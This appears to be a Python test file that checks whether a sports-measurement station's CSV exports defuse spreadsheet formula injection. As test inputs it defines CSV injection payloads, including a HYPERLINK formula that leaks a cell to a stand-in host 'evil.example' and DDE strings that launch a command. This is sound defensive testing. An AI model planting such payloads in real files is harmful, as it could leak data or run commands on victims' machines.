"""Exports for people: every CSV the station writes is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import numpy as np
from store_fixtures import make_trial

from station.store import Athlete, SessionRecord, open_store
from station.store.export import export_anonymised, export_athlete_csv, export_trial

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "protocol": '=HYPERLINK("http://evil.example/?"&A1,"open me")',
    "stance": "+cmd|' /C calc'!A0",
    "surface": "@SUM(1+1)*cmd|' /C calc'!A0",
    "analysis_version": "-2+3",
    "failure_reason": "\t=1+1",
    "task": "\r=1+1",
}


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_live_formula(rows: list[list[str]], numeric_columns: set[str]) -> None:
    """A cell may begin with a formula character only when it is a number the station
    wrote as a number (a negative value)."""
    header = rows[0]
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            if not cell.startswith(FORMULA_STARTS):
                continue
            assert name in numeric_columns and cell != "" and float(cell) < 0, (name, cell)


def test_text_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    store = open_store(tmp_path / "d")
    au = store.add_athlete(Athlete(name='=HYPERLINK("http://evil.example","x")', birth_year=2008))
    su = store.create_session(SessionRecord(athlete_uid=au))
    rng = np.random.default_rng(5)
    metrics = {"mvelo_mm_s": -3.5, "label": "=1+1", "ok": 2.0}
    uid = store.save_trial(make_trial(su, 0, rng, duration_s=2.0, metrics=metrics, **HOSTILE))

    out = tmp_path / "athlete.csv"
    export_athlete_csv(store, au, out)
    with open(out, newline="") as f:  # keep a CR inside a cell as it is
        rows = _cells(f.read())
    record = dict(zip(rows[0], rows[1], strict=True))
    for field, value in HOSTILE.items():
        if field in record:
            assert record[field] == "'" + value, field
    assert record["metric.label"] == "'=1+1"
    assert record["metric.mvelo_mm_s"] == "-3.5"  # a number stays a number
    _assert_no_live_formula(rows, {"metric.mvelo_mm_s"})

    export_anonymised(store, tmp_path / "anon.zip")
    with zipfile.ZipFile(tmp_path / "anon.zip") as zf:
        for member in ("athletes.csv", "trials.csv"):
            _assert_no_live_formula(_cells(zf.read(member).decode()), {"metric.mvelo_mm_s"})

    [frames_csv] = [p for p in export_trial(store, uid, tmp_path / "trial") if p.suffix == ".csv"]
    frames = _cells(frames_csv.read_text())
    numeric = set(frames[0])
    _assert_no_live_formula(frames, numeric)
    assert all(float(cell) == float(cell) for row in frames[1:] for cell in row)
    store.close()
